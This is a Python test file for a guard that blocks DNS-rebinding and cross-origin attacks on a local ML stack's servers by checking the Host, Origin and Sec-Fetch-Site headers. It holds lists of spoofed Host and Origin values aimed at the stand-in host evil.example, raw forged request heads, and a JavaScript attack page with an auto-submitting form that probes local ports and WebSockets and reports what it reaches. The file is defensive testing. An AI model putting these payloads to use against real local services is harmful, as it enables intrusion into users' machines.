"""Web pages that attack the servers of a machine: refused by Host, Origin and Sec-Fetch-Site, before a server reads."""

import json
import socket
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import psutil
import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, PlainTextResponse, Response
from starlette.routing import Route, WebSocketRoute
from starlette.types import ASGIApp
from starlette.websockets import WebSocket

from local.stack import Stack
from runtime.foreign_pages import AllowedAddresses, ForeignPageGuard, parse_address
from tests.fixtures.browser import browser, open_in_a_foreign_network
from tests.waiting import wait_for

if TYPE_CHECKING:
    from local.sagemaker.server import LocalSageMaker

PROXY = "https://ratchet.example.com"
OWN_HOSTS = ["127.0.0.1:4200", "localhost:4200", "LOCALHOST:4200", "[::1]:4200", "127.0.0.1", "localhost:14200",
             "ratchet.example.com", "Ratchet.Example.com:443"]  # fmt: skip
FOREIGN_HOSTS = ["", "evil.example", "evil.example:4200", "127.0.0.1.nip.io:4200", "localhost.evil.example",
                 "localhost.:4200", "127.0.0.1.", "127.0.0.1@evil.example", "evil.example@127.0.0.1:4200",
                 "127.0.0.1:4200@evil.example", "127.0.0.1:", "127.0.0.1:4200:4200", "127.0.0.1:port", "127.1:4200",
                 "2130706433:4200", "0x7f000001:4200", "0.0.0.0:4200", "[::]:4200", "[::ffff:127.0.0.1]:4200", "::1",
                 "[::1", "127.0.0.1, evil.example", "127.0.0.1 evil.example", "http://127.0.0.1:4200", "127.0.0.1/",
                 "127.0.0.1%00.evil.example", "10.evil.example:5000", "xratchet.example.com",
                 "ratchet.example.com.evil.example", "\u0131.example", "*"]  # fmt: skip


def asked(*headers: tuple[str, str], method: str = "POST") -> str:
    """Return why a server behind a proxy refuses a request with these headers."""
    raw = [(name.encode(), value.encode("utf-8")) for name, value in headers]
    return AllowedAddresses([PROXY]).refusal(method, raw)


@pytest.mark.parametrize("host", OWN_HOSTS)
def test_a_program_that_names_an_address_of_the_server_is_let_in(host: str) -> None:
    assert asked(("host", host)) == ""


@pytest.mark.parametrize("host", FOREIGN_HOSTS)
def test_a_rebound_name_is_refused(host: str) -> None:
    assert "Host" in asked(("host", host))
    assert "Host" in asked(("host", host), ("origin", f"http://{host}"), ("sec-fetch-site", "same-origin"))


def test_a_second_or_missing_host_is_refused() -> None:
    assert "Host" in asked()
    assert "Host" in asked(("host", "127.0.0.1:4200"), ("host", "evil.example"))
    assert "Host" in asked(("host", "evil.example"), ("Host", "127.0.0.1:4200"))
    assert "Host" in asked(
        ("host", "evil.example"), ("x-forwarded-host", "127.0.0.1:4200"), ("forwarded", "host=localhost")
    )


@pytest.mark.parametrize(
    ("host", "origin"),
    [
        ("127.0.0.1:4200", "http://127.0.0.1:4200"),
        ("localhost:14200", "http://localhost:14200"),
        ("localhost", "http://localhost"),
        ("[::1]:4200", "http://[::1]:4200"),
        ("ratchet.example.com", PROXY),
        ("ratchet.example.com", f"{PROXY}:443"),
        ("127.0.0.1:4200", PROXY),  # a proxy that does not pass the Host on
    ],
)
def test_the_servers_own_pages_may_send_requests(host: str, origin: str) -> None:
    assert asked(("host", host), ("origin", origin)) == ""


@pytest.mark.parametrize(
    "origin",
    ["http://evil.example", "null", "", "http://127.0.0.1:9999", "http://localhost:4200", "https://127.0.0.1",
     "http://127.0.0.1:4200/", "http://127.0.0.1:4200.evil.example", "http://127.0.0.1:4200@evil.example",
     "http://ratchet.example.com", f"{PROXY}:8443", f"{PROXY}.evil.example", "file://127.0.0.1:4200",
     "chrome-extension://127.0.0.1:4200", "127.0.0.1:4200", "http://127.0.0.1:4200 http://evil.example"],
)  # fmt: skip
@pytest.mark.parametrize("method", ["GET", "POST", "OPTIONS"])
def test_a_page_of_another_origin_is_refused(origin: str, method: str) -> None:
    assert "Origin" in asked(("host", "127.0.0.1:4200"), ("origin", origin), method=method)


def test_one_of_two_origins_is_foreign() -> None:
    own, foreign = ("origin", "http://127.0.0.1:4200"), ("origin", "http://evil.example")
    for order in ((own, foreign), (foreign, own), (own, own)):
        assert "Origin" in asked(("host", "127.0.0.1:4200"), *order)


def test_images_scripts_and_frames_of_other_sites_are_refused_and_links_are_followed() -> None:
    def fetched(site: str, mode: str, dest: str, method: str = "GET") -> str:
        sent = {"host": "127.0.0.1:4200", "sec-fetch-site": site, "sec-fetch-mode": mode, "sec-fetch-dest": dest}
        return asked(*sent.items(), method=method)

    for site in ("cross-site", "same-site"):  # same-site: another port of this machine
        for mode, dest in (("no-cors", "image"), ("no-cors", "script"), ("navigate", "iframe"), ("navigate", "object")):
            assert "Sec-Fetch-Site" in fetched(site, mode, dest)
        assert fetched(site, "navigate", "document") == ""
        assert "Sec-Fetch-Site" in fetched(site, "navigate", "document", "POST")
    assert fetched("same-origin", "no-cors", "image") == "" == fetched("none", "navigate", "document")


@pytest.mark.parametrize(
    "address", ["ratchet.example.com", "https://", "https://a b", "https://*.example.com", "https://host/path", "*"]
)
def test_a_declared_address_that_is_none_is_an_error(address: str) -> None:
    with pytest.raises(ValueError, match="https://name"):
        parse_address(address)


@contextmanager
def serving(app: ASGIApp) -> Iterator[int]:
    """Serve an application from a thread, and yield its port."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=1))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
        thread.start()
        wait_for(lambda: server.started, what="the server")
        try:
            yield listener.getsockname()[1]
        finally:
            server.should_exit = True
            thread.join(30)


def answer(port: int, head: str, body: str = "") -> str:
    """Send the very bytes of a request, and return the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
        connection.sendall(f"{head}\r\nconnection: close\r\ncontent-length: {len(body)}\r\n\r\n{body}".encode())
        return b"".join(iter(lambda: connection.recv(65_536), b"")).decode(errors="replace")


def handshake(port: int, path: str, host: str = "", origin: str = "") -> str:
    """Ask for a WebSocket, and return the beginning of the answer."""
    lines = [f"GET {path} HTTP/1.1", f"host: {host or f'127.0.0.1:{port}'}", "upgrade: websocket",
             "connection: Upgrade", "sec-websocket-version: 13", "sec-websocket-protocol: prefect",
             "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ=="]  # fmt: skip
    lines += [f"origin: {origin}"] if origin else []
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        return connection.recv(65_536).decode(errors="replace")


async def welcome(_: Request) -> Response:
    return PlainTextResponse("welcome")


async def accept(websocket: WebSocket) -> None:
    await websocket.accept("prefect")
    await websocket.close()


def open_app() -> Starlette:
    return Starlette(
        routes=[WebSocketRoute("/socket", accept), Route("/{path:path}", welcome, methods=["GET", "POST"])]
    )


def test_odd_requests_are_judged_by_their_host_header_alone() -> None:
    with serving(ForeignPageGuard(open_app())) as port:
        assert "welcome" in answer(port, f"GET / HTTP/1.1\r\nhost: 127.0.0.1:{port}")
        assert "welcome" in answer(port, f"GET / HTTP/1.1\r\nhost: localhost:{port}\r\nx-forwarded-host: evil.example")
        for head in (
            "GET / HTTP/1.1\r\nhost: evil.example",
            "GET / HTTP/1.0\r\naccept: */*",
            "GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nhost: evil.example",
            "GET http://evil.example/ HTTP/1.1\r\nhost: evil.example",
            f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nhost: evil.example",
            "POST / HTTP/1.1\r\nhost: 127.0.0.1\r\norigin: http://evil.example\r\ncontent-type: text/plain",
        ):
            assert " 403 " in answer(port, head, "{}").partition("\r\n")[0], head


def test_a_refused_sender_does_not_hold_its_connection() -> None:
    with serving(ForeignPageGuard(open_app())) as port, socket.create_connection(("127.0.0.1", port), 60) as connection:
        connection.sendall(b"POST / HTTP/1.1\r\nhost: evil.example\r\ncontent-length: 1000000\r\n\r\n")
        received = b"".join(iter(lambda: connection.recv(65_536), b""))
    assert b"connection: close" in received and b"Host" in received


def test_websockets_of_foreign_pages_are_refused_before_they_open() -> None:
    with serving(ForeignPageGuard(open_app())) as port:
        assert " 101 " in handshake(port, "/socket")
        assert " 101 " in handshake(port, "/socket", origin=f"http://127.0.0.1:{port}")
        assert " 403 " in handshake(port, "/socket", origin="http://evil.example")
        assert " 403 " in handshake(port, "/socket", origin="null")
        assert " 403 " in handshake(port, "/socket", host=f"evil.example:{port}", origin=f"http://evil.example:{port}")


# ---- every port of a running stack ----

READ = {
    "prefect": "/api/health",
    "mlflow": "/version",
    "endpoints": "/ping",
    "gateway": "/ping",
    "sagemaker": "/_local",
}
SOCKETS = ("/api/events/in", "/api/events/out", "/api/logs/out", "/api/task_runs/subscriptions/scheduled", "/")
WRITE = {
    "prefect": "/api/deployments/",
    "mlflow": "/api/2.0/mlflow/experiments/create",
    "endpoints": "/endpoints/churn/invocations",
    "gateway": "/hooks/github",
    "sagemaker": "/bucket/key",
}


@pytest.fixture
def ports(stack: Stack, local_sagemaker: "LocalSageMaker") -> Mapping[str, int]:
    """Return every port of the stack, and that of a local SageMaker."""
    return {**stack.ports, "sagemaker": int(local_sagemaker.url.rpartition(":")[2])}


@pytest.mark.stack
def test_no_port_of_the_stack_answers_a_foreign_page(ports: Mapping[str, int]) -> None:
    assert set(ports) == set(READ)
    for name, port in ports.items():
        own = f"host: 127.0.0.1:{port}"
        assert " 200 " in answer(port, f"GET {READ[name]} HTTP/1.1\r\n{own}"), name
        for head in (
            f"GET {READ[name]} HTTP/1.1\r\nhost: evil.example:{port}",
            f"GET {READ[name]} HTTP/1.1\r\nhost: 10.evil.example:{port}",
            f"GET {READ[name]} HTTP/1.1\r\n{own}\r\nhost: evil.example",
            f"GET {READ[name]} HTTP/1.1\r\n{own}\r\norigin: http://evil.example",
            f"GET {READ[name]} HTTP/1.1\r\n{own}\r\nsec-fetch-site: cross-site\r\nsec-fetch-mode: no-cors",
            f"OPTIONS {WRITE[name]} HTTP/1.1\r\n{own}\r\norigin: http://evil.example",
            f"POST {WRITE[name]} HTTP/1.1\r\n{own}\r\norigin: http://localhost:9\r\ncontent-type: text/plain",
            f"POST {WRITE[name]} HTTP/1.1\r\n{own}\r\norigin: null\r\ncontent-type: text/plain",
            f"PUT {WRITE[name]} HTTP/1.1\r\n{own}\r\norigin: http://evil.example",
        ):
            said = answer(port, head, "{}")
            assert " 403 " in said.partition("\r\n")[0] and "refused: the header" in said, (name, head, said)
        for path in SOCKETS:
            assert " 101 " not in handshake(port, path, origin="http://evil.example"), (name, path)
            assert " 101 " not in handshake(port, path, host=f"evil.example:{port}"), (name, path)


@pytest.mark.stack
def test_mlflows_assistant_runs_commands_for_nobody(stack: Stack) -> None:
    for method, path in (
        ("GET", "config"),
        ("PUT", "config"),
        ("POST", "message"),
        ("GET", "/config"),
        ("GET", "c%6Fnfig"),
    ):
        head = f"{method} /ajax-api/3.0/mlflow/assistant/{path} HTTP/1.1\r\nhost: 127.0.0.1"
        assert " 404 " in answer(stack.ports["mlflow"], head, "{}").partition("\r\n")[0], (method, path)


@pytest.mark.stack
def test_the_prefect_server_opens_to_its_secret_only(stack: Stack) -> None:
    import httpx

    url = f"{stack.url('prefect')}/api/admin/settings"
    user, _, password = stack.prefect_secret.partition(":")
    assert (stack.state_folder / "keys" / "prefect-api").stat().st_mode & 0o077 == 0
    assert httpx.get(url, timeout=60).status_code == 401
    assert httpx.get(url, auth=(user, "wrong"), timeout=60).status_code == 401
    assert httpx.get(url, auth=(user, password), timeout=60).status_code == 200
    assert " 101 " in handshake(stack.ports["prefect"], "/api/events/in")  # it closes unless the secret comes first


@pytest.mark.stack
def test_only_processes_that_call_prefect_know_its_secret(stack: Stack) -> None:
    knowing = set()
    for each in stack.processes:
        for process in (leader := psutil.Process(each.pid), *leader.children(recursive=True)):
            if stack.prefect_secret in "".join(process.environ().values()):
                knowing.add(each.name)
            assert stack.prefect_secret not in " ".join(process.cmdline())
    assert knowing == {"prefect", "worker", "gateway"}


# ---- in a browser ----

NAME = "evil.example"
ATTACK = """<!doctype html><title>attack</title><img src="/wait"><script>
const targets = TARGETS;
const read = url => fetch(url).then(got => "read " + got.status, () => "blocked");
const opened = url => new Promise(done => {
  const socket = new WebSocket(url, ["prefect"]);
  socket.onopen = () => done("open");
  socket.onerror = () => done("blocked");
});
(async () => {
  const found = {};
  await Promise.all(targets.map(async url => found[url] = await (url.startsWith("ws") ? opened(url) : read(url))));
  await fetch("/result", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""
FORM = """<!doctype html><form method="post" action="{}" enctype="text/plain"><input name="a" value="b"></form>
<script>document.forms[0].submit()</script>"""


class Attacker:
    """A site whose page attacks this machine's ports and reports what came of it."""

    def __init__(self) -> None:
        self.targets, self.found = list[str](), dict[str, str]()
        self.done = threading.Event()
        routes = [Route("/attack", self.attack), Route("/form", self.form), Route("/wait", self.wait),
                  Route("/result", self.result, methods=["POST"]), *open_app().routes]  # fmt: skip
        self.app = Starlette(routes=routes)

    async def attack(self, _: Request) -> Response:
        return HTMLResponse(ATTACK.replace("TARGETS", json.dumps(self.targets)))

    async def form(self, request: Request) -> Response:
        return HTMLResponse(FORM.format(request.query_params["to"]))

    def wait(self, _: Request) -> Response:
        """Delay the end of the page's loading, at which the browser closes, until the page has reported."""
        self.done.wait(60)
        return PlainTextResponse("")

    async def result(self, request: Request) -> Response:
        self.found = json.loads(await request.body())
        self.done.set()
        return JSONResponse({})


@pytest.mark.stack
@pytest.mark.slow
@pytest.mark.timeout(600)
def test_in_chromium_no_page_reads_writes_or_opens_a_socket(ports: Mapping[str, int], tmp_path: Path) -> None:
    browser()
    sites = [f"//{host}:{port}{READ[name]}" for name, port in ports.items() for host in ("127.0.0.1", NAME)]
    sockets = [f"//{host}:{ports['prefect']}/api/events/{way}" for way in ("in", "out") for host in ("127.0.0.1", NAME)]
    attacker = Attacker()
    with serving(attacker.app) as own:
        control = [f"http://{NAME}:{own}/", f"ws://127.0.0.1:{own}/socket", f"ws://{NAME}:{own}/socket"]
        attacker.targets = [*control, *(f"http:{site}" for site in sites), *(f"ws:{site}" for site in sockets)]
        open_in_a_foreign_network(f"http://{NAME}:{own}/attack", tmp_path, NAME)
        assert [attacker.found.pop(url) for url in control] == ["read 200", "open", "open"], "the attack itself works"
        assert len(attacker.found) == len(sites) + len(sockets)
        assert {url for url, end in attacker.found.items() if end != "blocked"} == set()
        form = f"http://{NAME}:{own}/form?to="
        assert "welcome" in open_in_a_foreign_network(form + quote(f"http://127.0.0.1:{own}/"), tmp_path, NAME)
        for name, port in ports.items():
            rebound = open_in_a_foreign_network(f"http://{NAME}:{port}{READ[name]}", tmp_path, NAME)
            assert "refused: the header Host" in rebound, (name, rebound)
            posted = open_in_a_foreign_network(form + quote(f"http://127.0.0.1:{port}{WRITE[name]}"), tmp_path, NAME)
            assert "refused: the header Origin" in posted, (name, posted)
